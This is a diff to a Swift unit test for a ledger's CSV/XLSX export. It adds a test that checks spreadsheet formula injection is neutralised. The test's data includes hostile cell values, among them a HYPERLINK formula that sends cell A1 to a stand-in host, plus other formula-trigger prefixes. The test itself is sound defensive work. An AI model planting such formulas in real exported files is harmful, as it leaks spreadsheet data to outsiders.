@@ -1,8 +1,8 @@
 import Foundation
-import LeadMessages
 import Matching
 import Testing
 
+@testable import LeadMessages
 @testable import Ledger
 
 /// The realistic ledger of Resources/ (make-ledger.py): a title row, merged cells, a blank row,
@@ -181,6 +181,22 @@ import Testing
         #expect(XLSXWriter.cell("1e5") == .text("1e5"))
         #expect(
             XLSXWriter.columnName(0) == "A" && XLSXWriter.columnName(25) == "Z" && XLSXWriter.columnName(26) == "AA")
+    }
+
+    /// CSV injection (OWASP): read back as a spreadsheet would split it, no cell of user text starts
+    /// like a formula; numbers written as numbers, negative ones too, stay numbers.
+    @Test func noCSVCellOfUserTextIsAFormula() {
+        let hostile = [
+            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "+1+1", "-1+1", "@SUM(A1)", "\tcmd", "\r=1",
+        ]
+        let rows: [[XLSXWriter.Cell]] = hostile.map { [.text($0), .number("-12.5"), .text("-3")] }
+        let csv = LedgerExport.csv(header: ["企业名称", "金额", "备注"], rows: rows)
+        let cells = CSVTable.parse(csv).rows.dropFirst().map(\.cells)
+        #expect(cells.map { $0[0] } == hostile.map { "'" + $0 })
+        #expect(cells.allSatisfy { $0[1] == "-12.5" && $0[2] == "-3" })
+        for cell in cells.flatMap({ $0 }) where !CSVField.isPlainNumber(cell) {
+            #expect(!"=+-@\t\r".contains(cell.first ?? " "), "\(cell) would run as a formula")
+        }
     }
 
     @Test func amountsInWanAreExact() {
